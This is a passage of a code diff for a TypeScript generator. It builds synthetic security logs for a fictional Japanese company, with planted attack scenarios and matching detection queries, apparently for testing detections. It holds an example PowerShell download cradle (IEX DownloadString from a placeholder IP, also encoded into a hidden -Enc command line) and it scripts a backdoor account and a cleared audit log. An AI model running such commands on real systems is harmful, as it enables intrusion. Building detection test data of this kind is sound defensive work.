@@ -28,7 +28,10 @@ export interface Detection {
 export interface Scenario {
   id: string;
   title: string;
+  /** An account, a source IP or a device. */
   who: string;
+  whoDisplayName?: string;
+  whoDepartment?: string;
   what: string;
   start: string;
   end: string;
@@ -85,12 +88,17 @@ class Generator {
   private zeekUid = 0;
   private pgPid = 12300;
   private pgStmt = 1;
+  /** Scenario days on which a person's ordinary day is replaced by the scenario's own session. */
+  private readonly replaced = new Set<string>();
+  /** Scenario days on which a person must be at work. */
+  private readonly present = new Set<string>();
 
   constructor(private readonly opts: GenerateOptions) {
     this.rng = new Rng(opts.seed);
     this.t0 = jstMidnight(opts.start);
     this.people = buildCompany(this.rng.fork('company'), opts.users, opts.start, opts.days);
     mkdirSync(opts.out, { recursive: true });
+    this.planActors();
     const o = opts.out;
     this.sinks = {
       ws: new Sink('windows/workstations-nxlog.json', o),
@@ -121,9 +129,10 @@ class Generator {
       this.background(day, rng);
       for (const p of this.people) this.personDay(p, day, d, rng.fork(p.account));
       if (!this.opts.benign) this.scenarioDay(d, day, rng.fork('scenario'));
-      for (const s of Object.values(this.sinks)) s.flush();
+      for (const s of Object.values(this.sinks)) s.flush(day + DAY);
     }
     for (const s of Object.values(this.sinks)) s.close();
+    this.scenarios.sort((x, y) => (x.start < y.start ? -1 : x.start > y.start ? 1 : x.id < y.id ? -1 : 1));
     writeFileSync(join(this.opts.out, 'users.csv'), usersCsv(this.people));
     writeFileSync(join(this.opts.out, 'assets.csv'), this.assetsCsv());
     writeFileSync(join(this.opts.out, 'holidays.txt'), [...this.holidays].map(([k, v]) => `${k} ${v}`).join('\n') + '\n');
@@ -149,8 +158,9 @@ class Generator {
 
   private assetsCsv(): string {
     const rows = ['host,owner,department,role'];
-    for (const p of this.people) rows.push(`${p.host},${p.account},${p.dept.ja},${p.laptop ? 'laptop' : 'workstation'}`);
-    rows.push('DC01,,情報システム,domain-controller', 'FS01,,情報システム,file-server', 'FS02,,情報システム,file-server');
+    // Windows machines by their DNS name, as AD's dNSHostName and the event logs' Computer field give it.
+    for (const p of this.people) rows.push(`${p.host}.${FQDN},${p.account},${p.dept.ja},${p.laptop ? 'laptop' : 'workstation'}`);
+    rows.push(`DC01.${FQDN},,情報システム,domain-controller`, `FS01.${FQDN},,情報システム,file-server`, `FS02.${FQDN},,情報システム,file-server`);
     rows.push('web01,,情報システム,linux-server', 'db01,,情報システム,database', 'bastion01,,情報システム,ssh-gateway', 'mail01,,情報システム,mail-server');
     rows.push('ns01,,情報システム,dns-server', 'dhcp01,,情報システム,dhcp-server', 'proxy01,,情報システム,proxy', 'FGT60F,,情報システム,firewall');
     rows.push('core-sw01,,情報システム,switch', 'floor3-sw01,,情報システム,switch', 'ap-3f-01,,情報システム,access-point', 'ap-3f-02,,情報システム,access-point');
@@ -239,8 +249,11 @@ class Generator {
   private personDay(p: Employee, day: number, d: number, rng: Rng): void {
     const off = this.isOffDay(day);
     const sick = rng.chance(0.03);
-    if (sick) return;
-    if (off && !(p.night && rng.chance(0.3)) && !rng.chance(0.02)) return;
+    const key = `${p.account}@${d}`;
+    if (!this.opts.benign && this.replaced.has(key)) return;
+    if (sick && (this.opts.benign || !this.present.has(key))) return;
+    // Days off: only the night shift (its own calendar) works some weekends; nobody else, so holiday alerts stay quiet.
+    if (off && !(p.night && rng.chance(0.3))) return;
     const leaverBusy = false;
     let arrive = day + (p.arrive + Math.round(rng.normal() * 12)) * MINUTE + rng.int(0, 59_999);
     let length = p.workMinutes + Math.round(rng.normal() * 15);
@@ -248,7 +261,8 @@ class Generator {
       arrive = day + (10 * 60 + rng.int(0, 120)) * MINUTE;
       length = rng.int(120, 300);
     } else if (rng.chance(p.overtime)) length += rng.int(30, 180);
-    const leave = arrive + length * MINUTE + rng.int(0, 59_999);
+    // Day workers go home by 21:30 at the latest: late-night use is left to the scenarios.
+    const leave = p.night ? arrive + length * MINUTE + rng.int(0, 59_999) : Math.min(arrive + length * MINUTE + rng.int(0, 59_999), day + (21 * 60 + 30) * MINUTE - rng.int(0, 600_000));
     this.workSession(p, arrive, leave, rng, d, leaverBusy);
   }
 
@@ -312,12 +326,16 @@ class Generator {
       const t = arrive + rng.int(2, 20) * MINUTE;
       this.sec('fs', t, `${server}.${FQDN}`, 5140, [...this.subject(p, fsLogon), ['ObjectType', 'File'], ['IpAddress', p.ip], ['IpPort', String(49700 + rng.int(0, 200))], ['ShareName', `\\\\*\\${p.dept.ja}`], ['ShareLocalPath', `\\??\\C:\\Shares\\${p.dept.ja}`], ['AccessMask', '0x1'], ['AccessList', '%%4416\n\t\t\t\t']], 'A network share object was accessed.', { version: 1, task: 12808, taskName: 'File Share' });
     }
+    this.zeekConn(arrive + 2 * MINUTE, p.ip, server === 'FS01' ? '10.0.0.20' : '10.0.0.21', 445, 'smb,gssapi', (leave - arrive) / 1000 - 200, rng.int(200_000, 5_000_000), rng.int(1_000_000, 80_000_000), rng);
     for (let i = 0; i < nFiles; i++) {
       const t = at();
-      const path = this.sharePath(p.dept.ja, rng);
+      // Mostly the own department's share; now and then the company-wide folder on FS02.
+      const common = rng.chance(0.08);
+      const path = common ? `C:\\Shares\\全社共有\\${rng.pick(['就業規則', '社内報', '経費精算マニュアル', '年間カレンダー', '組織図'])}_2026.pdf` : this.sharePath(p.dept.ja, rng);
       const reads = rng.int(1, 3);
       let u = t;
-      for (let k = 0; k < reads; k++) u = this.fileAccess(u + rng.int(200, 1500), server, p, fsLogon, path, 'read');
+      for (let k = 0; k < reads; k++) u = this.fileAccess(u + rng.int(200, 1500), common ? 'FS02' : server, p, fsLogon, path, 'read');
+      if (common) continue;
       if (rng.chance(0.3)) this.fileAccess(u + rng.int(30, 600) * 1000, server, p, fsLogon, path, 'write');
     }
     // Web, DNS, firewall, Zeek.
@@ -377,6 +395,7 @@ class Generator {
       this.sinks.squid.add(t, `${epochSeconds(t)} ${String(dur).padStart(6)} ${p.ip} TCP_MISS/200 ${size} GET http://${host}/ ${p.account} HIER_DIRECT/${ip} text/html`);
     }
     if (rng.chance(0.3)) this.dnsQuery(t - 40, p.ip, host, rng);
+    this.zeekConn(t, p.ip, '10.0.0.3', 3128, 'http', dur / 1000, up + 200, down + 300, rng);
     // The proxy's own connection through the firewall.
     if (rng.chance(0.2)) this.fgtTraffic(t + dur, '10.0.0.3', ip, 443, 'HTTPS', up, down, 'accept', undefined, host, rng);
   }
@@ -545,11 +564,340 @@ class Generator {
     return list[n % list.length];
   }
 
-  private scenarioDay(d: number, day: number, rng: Rng): void {
-    void d;
-    void day;
-    void rng;
+  /** Scenario days: all in the second half of the period, after a baseline. */
+  private scenarioPlan(): { work: number[]; off: number[] } {
+    const half = Math.floor(this.opts.days / 2);
+    const work: number[] = [];
+    const off: number[] = [];
+    for (let d = half; d < this.opts.days; d++) (this.isOffDay(this.t0 + d * DAY) ? off : work).push(d);
+    if (work.length === 0) work.push(this.opts.days - 1);
+    return { work, off };
   }
+
+  private at(d: number, hh: number, mm: number, ss = 0): number {
+    return this.t0 + d * DAY + ((hh * 60 + mm) * 60 + ss) * 1000;
+  }
+
+  private record(s: Omit<Scenario, 'start' | 'end'>, start: number, end: number): void {
+    const person = this.people.find((p) => p.account === s.who);
+    const who = person ? { whoDisplayName: person.displayName, whoDepartment: person.dept.ja } : {};
+    this.scenarios.push({ id: s.id, title: s.title, who: s.who, ...who, what: s.what, start: isoJst(start), end: isoJst(end), monitoringPoint: s.monitoringPoint, useCase: s.useCase, detections: s.detections });
+  }
+
+  private range(a: number, b: number): string {
+    return `@timestamp:[${new Date(a).toISOString()} TO ${new Date(b).toISOString()}]`;
+  }
+
+  private actors(): Record<string, Employee> {
+    return {
+      admin: this.people.filter((p) => p.privileged)[0],
+      victim: this.pickUser((p) => p.dept.code === 'eigyo', 0),
+      explorer: this.pickUser((p) => p.dept.code === 'eigyo', 1),
+      devReader: this.pickUser((p) => p.dept.code === 'kaihatsu', 0),
+      uploader: this.pickUser((p) => p.dept.code === 'kaihatsu', 1),
+      ransom: this.pickUser((p) => p.dept.code === 'somu', 0),
+      psUser: this.pickUser((p) => p.dept.code === 'keiri', 0),
+      restUser: this.pickUser((p) => p.dept.code === 'keiri', 1),
+      portUser: this.pickUser((p) => p.dept.code === 'seizo', 0),
+      saturator: this.pickUser((p) => p.dept.code === 'seizo', 1),
+      lateWorker: this.pickUser((p) => p.dept.code === 'homu', 0),
+      leaver: this.leaver(),
+    };
+  }
+
+  /** The day on which the short-rest scenario ends late (the next day must be in the period). */
+  private restDay(): number {
+    const { work } = this.scenarioPlan();
+    const k = work.findIndex((d, i) => i >= 9 % work.length && d + 1 < this.opts.days);
+    return k >= 0 ? work[k] : (work.find((d) => d + 1 < this.opts.days) ?? work[0]);
+  }
+
+  private planActors(): void {
+    const { work } = this.scenarioPlan();
+    const a = this.actors();
+    const w = (k: number): number => work[k % work.length];
+    this.replaced.add(`${a.lateWorker.account}@${w(8)}`);
+    const rd = this.restDay();
+    this.replaced.add(`${a.restUser.account}@${rd}`);
+    this.replaced.add(`${a.restUser.account}@${rd + 1}`);
+    const days: Array<[Employee, number]> = [[a.devReader, w(2)], [a.ransom, w(3)], [a.psUser, w(4)], [a.portUser, w(5)], [a.uploader, w(5)], [a.saturator, w(5)], [a.admin, w(6)], [a.explorer, w(7)]];
+    for (const d of work) days.push([a.leaver, d]);
+    for (const [p, d] of days) this.present.add(`${p.account}@${d}`);
+  }
+
+  private scenarioDay(d: number, _day: number, rng: Rng): void {
+    const { work, off } = this.scenarioPlan();
+    const w = (k: number): number => work[k % work.length];
+    const { admin, victim, explorer, devReader, uploader, ransom, psUser, restUser, portUser, saturator, lateWorker, leaver } = this.actors();
+
+    // 1. Password spray from outside, then 2. escalation of the sprayed account to Domain Admins, backdoor, policy change, log clear.
+    if (d === w(0)) {
+      const t = this.at(d, 3, 10);
+      const targets = this.people.filter((p) => !p.privileged).slice(0, Math.min(40, this.people.length - 5));
+      targets.forEach((p, i) => this.logon4625(t + i * 17_000 + rng.int(0, 900), p.account, ATTACK.spray, '-'));
+      const end = t + targets.length * 17_000 + 1000;
+      this.record({ id: 'password-spray', title: 'Password spray from one external IP against many accounts', who: ATTACK.spray, what: `4625 failures (NTLM, network logon) against ${targets.length} different accounts, one try each, every ~17 s`, monitoringPoint: 'Intrusion: mass logon failures', useCase: '1 cyber attack', detections: [{ description: 'failed logons from the spraying IP', query: `event.code:4625 AND source.ip:${ATTACK.spray}`, minCount: targets.length }] }, t, end);
+
+      // The spray hits: the victim's account logs on from the attacker's IP, joins Domain Admins.
+      const t2 = end + 4 * MINUTE;
+      const lid = '0x7a1f00';
+      this.logon4624('dc', t2, 'DC01', victim, 3, ATTACK.spray, lid);
+      this.sec('dc', t2 + 100, DC, 4672, [...this.subject(victim, lid), ['PrivilegeList', 'SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeDebugPrivilege']], 'Special privileges assigned to new logon.', { task: 12548, taskName: 'Special Logon' });
+      this.sec('dc', t2 + 60_000, DC, 4728, [['MemberName', `CN=${victim.romaji},OU=営業部,DC=corp,DC=example,DC=co,DC=jp`], ['MemberSid', victim.sid], ['TargetUserName', 'Domain Admins'], ['TargetDomainName', DOMAIN], ['TargetSid', 'S-1-5-21-3623811015-3361044348-30300820-512'], ...this.subject(victim, lid), ['PrivilegeList', '-']], 'A member was added to a security-enabled global group.', { task: 13826, taskName: 'Security Group Management' });
+      this.record({ id: 'escalation-domain-admins', title: 'A compromised sales account adds itself to Domain Admins', who: victim.account, what: `logon from ${ATTACK.spray} right after the spray, 4672 special logon, then 4728 into Domain Admins`, monitoringPoint: 'Intrusion: escalation to admin rights', useCase: '1 cyber attack', detections: [
+        { description: 'member added to Domain Admins', query: 'event.code:4728 AND group.name:"Domain Admins"', minCount: 1 },
+        { description: 'the victim logged on from the attacker IP', query: `event.code:4624 AND user.name:${victim.account} AND source.ip:${ATTACK.spray}`, minCount: 1 },
+      ] }, t2, t2 + 60_000);
+
+      const t3 = t2 + 6 * MINUTE;
+      const bd = { sid: 'S-1-5-21-3623811015-3361044348-30300820-4242', account: 'svc_backup2' };
+      const tgt: Array<[string, string]> = [['TargetUserName', bd.account], ['TargetDomainName', DOMAIN], ['TargetSid', bd.sid]];
+      this.sec('dc', t3, DC, 4720, [...tgt, ...this.subject(victim, lid), ['PrivilegeList', '-'], ['SamAccountName', bd.account], ['DisplayName', '%%1793'], ['UserPrincipalName', `${bd.account}@${FQDN}`], ['HomeDirectory', '%%1793'], ['HomePath', '%%1793'], ['ScriptPath', '%%1793'], ['ProfilePath', '%%1793'], ['UserWorkstations', '%%1793'], ['PasswordLastSet', '%%1794'], ['AccountExpires', '%%1794'], ['PrimaryGroupId', '513'], ['AllowedToDelegateTo', '-'], ['OldUacValue', '0x0'], ['NewUacValue', '0x15'], ['UserAccountControl', '\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084'], ['UserParameters', '%%1793'], ['SidHistory', '-'], ['LogonHours', '%%1797']], 'A user account was created.', { task: 13824, taskName: 'User Account Management' });
+      this.sec('dc', t3 + 2000, DC, 4722, [...tgt, ...this.subject(victim, lid)], 'A user account was enabled.', { task: 13824, taskName: 'User Account Management' });
+      this.sec('dc', t3 + 3000, DC, 4724, [...tgt, ...this.subject(victim, lid)], "An attempt was made to reset an account's password.", { task: 13824, taskName: 'User Account Management' });
+      this.sec('dc', t3 + 9000, DC, 4732, [['MemberName', '-'], ['MemberSid', bd.sid], ['TargetUserName', 'Administrators'], ['TargetDomainName', 'Builtin'], ['TargetSid', 'S-1-5-32-544'], ...this.subject(victim, lid), ['PrivilegeList', '-']], 'A member was added to a security-enabled local group.', { task: 13826, taskName: 'Security Group Management' });
+      this.record({ id: 'backdoor-account', title: 'A backdoor account is created and made an administrator', who: victim.account, what: `4720 creates ${bd.account}, 4722 enables it, 4724 resets its password, 4732 adds it to Administrators`, monitoringPoint: 'Intrusion: account creation', useCase: '1 cyber attack, 3 audit', detections: [
+        { description: 'account created', query: `event.code:4720 AND user.target.name:${bd.account}`, minCount: 1 },
+        { description: 'added to Administrators', query: 'event.code:4732 AND group.name:Administrators', minCount: 1 },
+      ] }, t3, t3 + 9000);
+
+      const t4 = t3 + 5 * MINUTE;
+      this.sec('dc', t4, DC, 4719, [...this.subject(victim, lid), ['CategoryId', '%%8276'], ['SubcategoryId', '%%12544'], ['SubcategoryGuid', '{0cce9215-69ae-11d9-bed3-505054503030}'], ['AuditPolicyChanges', '%%8448, %%8450']], 'System audit policy was changed.', { task: 13568, taskName: 'Audit Policy Change' });
+      this.win('dc', { t: t4 + 90_000, id: 1102, provider: 'Microsoft-Windows-Eventlog', channel: 'Security', computer: DC, audit: 'success', task: 104, data: [['SubjectUserSid', victim.sid], ['SubjectUserName', victim.account], ['SubjectDomainName', DOMAIN], ['SubjectLogonId', lid]], userData: { element: 'LogFileCleared', ns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' }, message: 'The audit log was cleared.' });
+      this.record({ id: 'audit-policy-and-log-clear', title: 'Audit policy weakened, then the Security log cleared', who: victim.account, what: '4719 removes logon auditing on DC01, 1102 clears the Security log 90 s later', monitoringPoint: 'Intrusion: policy change', useCase: '1 cyber attack, 3 audit', detections: [
+        { description: 'audit policy changed', query: 'event.code:4719', minCount: 1 },
+        { description: 'security log cleared', query: 'event.code:1102', minCount: 1 },
+      ] }, t4, t4 + 90_000);
+    }
+
+    // 3. SSH brute force against the bastion.
+    if (d === w(1)) {
+      const t = this.at(d, 1, 40);
+      const n = 240;
+      let pid = 40000;
+      for (let i = 0; i < n; i++) {
+        const u = t + i * 4000 + rng.int(0, 1500);
+        const user = i % 4 === 3 ? rng.pick(['admin', 'oracle', 'postgres']) : 'root';
+        const msg = user === 'root' ? `Failed password for root from ${ATTACK.brute} port ${40000 + i} ssh2` : `Failed password for invalid user ${user} from ${ATTACK.brute} port ${40000 + i} ssh2`;
+        this.sinks.secure.add(u, `${syslogStamp(u)} bastion01 sshd[${pid + Math.floor(i / 6)}]: ${msg}`);
+      }
+      // The last guess works: root logs in from the attacker and leaves a Linux backdoor account.
+      const ok = t + n * 4000 + 3000;
+      const sp = pid + 100;
+      const s = this.sinks.secure;
+      s.add(ok, `${syslogStamp(ok)} bastion01 sshd[${sp}]: Accepted password for root from ${ATTACK.brute} port 47001 ssh2`);
+      s.add(ok + 20, `${syslogStamp(ok + 20)} bastion01 sshd[${sp}]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)`);
+      const ua = ok + 95_000;
+      s.add(ua, `${syslogStamp(ua)} bastion01 groupadd[${sp + 7}]: group added to /etc/group: name=sysupd, GID=1050`);
+      s.add(ua + 1, `${syslogStamp(ua + 1)} bastion01 groupadd[${sp + 7}]: new group: name=sysupd, GID=1050`);
+      s.add(ua + 5, `${syslogStamp(ua + 5)} bastion01 useradd[${sp + 8}]: new user: name=sysupd, UID=1050, GID=1050, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0`);
+      s.add(ua + 9000, `${syslogStamp(ua + 9000)} bastion01 passwd[${sp + 9}]: pam_unix(passwd:chauthtok): password changed for sysupd`);
+      s.add(ua + 21_000, `${syslogStamp(ua + 21_000)} bastion01 usermod[${sp + 10}]: add 'sysupd' to group 'sudo'`);
+      s.add(ua + 21_001, `${syslogStamp(ua + 21_001)} bastion01 usermod[${sp + 10}]: add 'sysupd' to shadow group 'sudo'`);
+      s.add(ua + 300_000, `${syslogStamp(ua + 300_000)} bastion01 sshd[${sp}]: pam_unix(sshd:session): session closed for user root`);
+      this.record({ id: 'ssh-brute-force', title: 'SSH brute force from one external IP, then a Linux backdoor account', who: ATTACK.brute, what: `${n} failed passwords for root and common accounts on bastion01 in 16 minutes; the last guess logs in as root, which adds the account sysupd to sudo`, monitoringPoint: 'Intrusion: mass logon failures, account creation', useCase: '1 cyber attack', detections: [
+        { description: 'sshd failures from the attacker', query: `event.outcome:failure AND source.ip:${ATTACK.brute}`, minCount: 200 },
+        { description: 'root logged in from the attacker', query: `event.action:logged-in AND user.name:root AND source.ip:${ATTACK.brute}`, minCount: 1 },
+        { description: 'Linux account created', query: 'host.name:bastion01 AND event.action:added-user-account AND user.target.name:sysupd', minCount: 1 },
+      ] }, t, ua + 300_000);
+    }
+
+    // 4. Mass file reads by one developer in the evening.
+    if (d === w(2)) {
+      const t = this.at(d, 19, 5);
+      const lid = '0xd00d01';
+      let u = t;
+      const n = 600;
+      for (let i = 0; i < n; i++) u = this.fileAccess(u + rng.int(400, 2200), 'FS01', devReader, lid, `C:\\Shares\\開発\\製品設計\\図面_${String(i + 1).padStart(4, '0')}.dwg`, 'read');
+      this.record({ id: 'mass-file-reads', title: 'One developer reads 600 design files in 15 minutes', who: devReader.account, what: `${n} distinct files under C:\\Shares\\開発\\製品設計 read from FS01`, monitoringPoint: 'Information gathering / insider: mass file reads', useCase: '1 cyber attack, 2 insider', detections: [{ description: 'read records for the design folder', query: `event.action:read-file AND user.name:${devReader.account} AND file.path:*製品設計*`, minCount: n }] }, t, u);
+    }
+
+    // 5. Ransomware-like rename burst from the victim's PC on the 総務 share at night.
+    if (d === w(3)) {
+      const t = this.at(d, 2, 14);
+      const lid = '0x1c93a0e';
+      const proc = '0x2b1c';
+      const exe = 'C:\\Users\\Public\\svch0st.exe';
+      let u = t;
+      const n = 300;
+      for (let i = 0; i < n; i++) {
+        const dir = `C:\\Shares\\総務\\${rng.pick(['規程', '契約', '備品', '2026年度'])}`;
+        const name = `${rng.pick(SHARE_FILES)}_${i + 1}${rng.pick(EXTS)}`;
+        const path = `${dir}\\${name}`;
+        const comp = `FS02.${FQDN}`;
+        const base = this.subject(ransom, lid);
+        const h1 = hex((this.handle += 4));
+        this.sec('fs', u, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h1], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1537\n\t\t\t\t%%1541\n\t\t\t\t%%4423\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x110080'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'A handle to an object was requested.', { version: 1, task: 12800, taskName: 'File System' });
+        this.sec('fs', u + 2, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h1], ['AccessList', '%%1537\n\t\t\t\t'], ['AccessMask', '0x10000'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
+        const h2 = hex((this.handle += 4));
+        this.sec('fs', u + 3, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', dir], ['HandleId', h2], ['AccessList', '%%4417\n\t\t\t\t'], ['AccessMask', '0x2'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
+        this.sec('fs', u + 5, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h1], ['ProcessId', proc], ['ProcessName', exe]], 'The handle to an object was closed.', { task: 12800, taskName: 'File System' });
+        const h3 = hex((this.handle += 4));
+        this.sec('fs', u + 7, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', `${path}.lockbit`], ['HandleId', h3], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1541\n\t\t\t\t%%4424\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x100100'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'A handle to an object was requested.', { version: 1, task: 12800, taskName: 'File System' });
+        this.sec('fs', u + 8, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', `${path}.lockbit`], ['HandleId', h3], ['AccessList', '%%4424\n\t\t\t\t'], ['AccessMask', '0x100'], ['ProcessId', proc], ['ProcessName', exe], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
+        this.sec('fs', u + 9, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h3], ['ProcessId', proc], ['ProcessName', exe]], 'The handle to an object was closed.', { task: 12800, taskName: 'File System' });
+        u += rng.int(250, 450);
+      }
+      this.record({ id: 'ransomware-rename-burst', title: 'Ransomware-like burst of renames on the 総務 share', who: ransom.account, what: `${n} files renamed to *.lockbit by ${exe} in about 2 minutes at night`, monitoringPoint: 'Information gathering: mass renames (ransomware)', useCase: '1 cyber attack', detections: [{ description: 'renames by the victim account', query: `event.action:renamed-file AND user.name:${ransom.account}`, minCount: Math.floor(n * 0.9) }] }, t, u);
+    }
+
+    // 6. Encoded PowerShell on an accounting PC.
+    if (d === w(4)) {
+      const t = this.at(d, 14, 22);
+      const comp = `${psUser.host}.${FQDN}`;
+      const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/a.ps1')";
+      const enc = Buffer.from(script, 'utf16le').toString('base64');
+      this.sec('ws', t, comp, 4688, [...this.subject(psUser, '0x2a81f3c'), ['NewProcessId', '0x1f4c'], ['NewProcessName', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'], ['TokenElevationType', '%%1938'], ['ProcessId', '0x1a2c'], ['CommandLine', `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`], ['TargetUserSid', 'S-1-0-0'], ['TargetUserName', '-'], ['TargetDomainName', '-'], ['TargetLogonId', '0x0'], ['ParentProcessName', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'], ['MandatoryLabel', 'S-1-16-8192']], 'A new process has been created.', { version: 2, task: 13312, taskName: 'Process Creation' });
+      this.win('ws', { t: t + 800, id: 4104, provider: 'Microsoft-Windows-PowerShell', channel: 'Microsoft-Windows-PowerShell/Operational', computer: comp, level: 3, task: 2, taskName: 'Execute a Remote Command', version: 1, data: [['MessageNumber', '1'], ['MessageTotal', '1'], ['ScriptBlockText', script], ['ScriptBlockId', '{5b1f3a0e-7d8c-4e2f-9a1b-2c3d4e5f6a7b}'], ['Path', '']], message: 'Creating Scriptblock text (1 of 1):' });
+      this.fgtTraffic(t + 1500, psUser.ip, ATTACK.c2, 80, 'HTTP', 420, 18_230, 'accept', psUser.account, undefined, rng);
+      this.record({ id: 'encoded-powershell', title: 'Encoded PowerShell download cradle started from Excel', who: psUser.account, what: 'EXCEL.EXE starts powershell.exe -Enc; the 4104 script block shows IEX DownloadString', monitoringPoint: 'Information gathering: suspicious PowerShell', useCase: '1 cyber attack', detections: [
+        { description: '4688 powershell with -Enc', query: `event.code:4688 AND host.name:${psUser.host}* AND process.command_line:*-Enc*`, minCount: 1 },
+        { description: '4104 script block with a download cradle', query: 'event.code:4104 AND powershell.file.script_block_text:*DownloadString*', minCount: 1 },
+      ] }, t, t + 1500);
+    }
+
+    // 7. Non-permitted port, 8. large upload, 9. uplink saturation.
+    if (d === w(5)) {
+      const t = this.at(d, 10, 30);
+      for (let i = 0; i < 30; i++) this.fgtTraffic(t + i * 60_000, portUser.ip, ATTACK.c2, 4444, 'tcp/4444', rng.int(2000, 9000), rng.int(2000, 9000), 'accept', portUser.account, undefined, rng);
+      for (let i = 0; i < 6; i++) this.fgtTraffic(t + i * 5 * MINUTE + 30_000, portUser.ip, ATTACK.c2, 6667, 'tcp/6667', 0, 0, 'deny', portUser.account, undefined, rng, { id: 9, name: 'Block-Unlisted-Ports' });
+      this.record({ id: 'non-permitted-port', title: 'A factory PC talks to the Internet on TCP 4444 and 6667', who: portUser.account, what: '30 allowed sessions to 198.51.100.99:4444 and 6 denied to :6667', monitoringPoint: 'Exfiltration: non-permitted ports', useCase: '1 cyber attack', detections: [{ description: 'sessions to port 4444', query: `destination.port:4444 AND source.ip:${portUser.ip}`, minCount: 30 }] }, t, t + 30 * MINUTE);
+
+      const tu = this.at(d, 16, 5);
+      const big = 3_221_225_472;
+      this.fgtTraffic(tu + 40 * MINUTE, uploader.ip, ATTACK.exfil, 443, 'HTTPS', big, 4_200_000, 'close', uploader.account, 'mega.nz', rng);
+      this.sinks.squid.add(tu + 40 * MINUTE, `${epochSeconds(tu + 40 * MINUTE)} 2400113 ${uploader.ip} TCP_TUNNEL/200 ${big + 4_200_000} CONNECT mega.nz:443 ${uploader.account} HIER_DIRECT/${ATTACK.exfil} -`);
+      this.zeekConn(tu, uploader.ip, ATTACK.exfil, 443, 'ssl', 2400.1, big, 4_200_000, rng);
+      this.record({ id: 'large-upload', title: '3 GiB uploaded to cloud storage from one PC', who: uploader.account, what: `${uploader.ip} sends 3 GiB to mega.nz over 40 minutes (firewall, proxy and Zeek all see it)`, monitoringPoint: 'Exfiltration: large upload per IP', useCase: '1 cyber attack, 2 insider', detections: [
+        { description: 'firewall session with > 1 GB sent', query: `source.ip:${uploader.ip} AND source.bytes:>=1000000000`, minCount: 1 },
+        { description: 'proxy tunnel to cloud storage', query: `user.name:${uploader.account} AND kansa.url.category:cloud-storage AND destination.bytes:>=1000000000`, minCount: 1 },
+      ] }, tu, tu + 40 * MINUTE);
+
+      const ts = this.at(d, 13, 0);
+      for (let i = 0; i < 60; i++) {
+        const u = ts + i * MINUTE;
+        this.zeekConn(u, saturator.ip, `203.0.113.${200 + (i % 5)}`, 443, 'ssl', 59.5, rng.int(40_000, 90_000), rng.int(600_000_000, 750_000_000), rng);
+      }
+      this.record({ id: 'uplink-saturation', title: 'One PC saturates the Internet uplink for an hour', who: saturator.account, what: `${saturator.ip} downloads ~40 GB in 60 minutes (Zeek conn), about 90 Mbit/s`, monitoringPoint: 'Failure investigation: communication bottlenecks', useCase: '5 failure investigation', detections: [{ description: 'large Zeek connections from the PC', query: `source.ip:${saturator.ip} AND destination.bytes:>=500000000`, minCount: 60 }] }, ts, ts + HOUR);
+    }
+
+    // 10. ACL change on a confidential folder, 11. admin reads HR files and bulk-selects the HR DB.
+    if (d === w(6)) {
+      const t = this.at(d, 18, 40);
+      const lid = '0x5e11a0';
+      const path = 'C:\\Shares\\人事\\機密\\給与一覧_2026.xlsx';
+      this.sec('fs', t, `FS02.${FQDN}`, 4670, [...this.subject(admin, lid), ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', 'C:\\Shares\\人事\\機密'], ['HandleId', hex((this.handle += 4))], ['OldSd', 'D:PAI(A;OICI;FA;;;BA)(A;OICI;0x1301bf;;;S-1-5-21-3623811015-3361044348-30300820-3001)'], ['NewSd', 'D:PAI(A;OICI;FA;;;BA)(A;OICI;0x1301bf;;;S-1-5-21-3623811015-3361044348-30300820-3001)(A;OICI;FA;;;WD)'], ['ProcessId', '0x4'], ['ProcessName', '']], 'Permissions on an object were changed.', { task: 13570, taskName: 'Authorization Policy Change' });
+      this.record({ id: 'acl-change-confidential', title: 'Everyone given full control on the confidential HR folder', who: admin.account, what: '4670 on C:\\Shares\\人事\\機密 adds (A;OICI;FA;;;WD)', monitoringPoint: 'Insider: ACL change on important folders', useCase: '2 insider, 3 audit', detections: [{ description: 'permission change on 機密', query: 'event.code:4670 AND file.path:*人事\\\\機密*', minCount: 1 }] }, t, t);
+
+      let u = t + 5 * MINUTE;
+      for (let i = 0; i < 40; i++) u = this.fileAccess(u + rng.int(3000, 20_000), 'FS02', admin, lid, i === 0 ? path : `C:\\Shares\\人事\\機密\\人事評価_${i}.xlsx`, 'read');
+      const tdb = u + 2 * MINUTE;
+      const pid = ++this.pgPid;
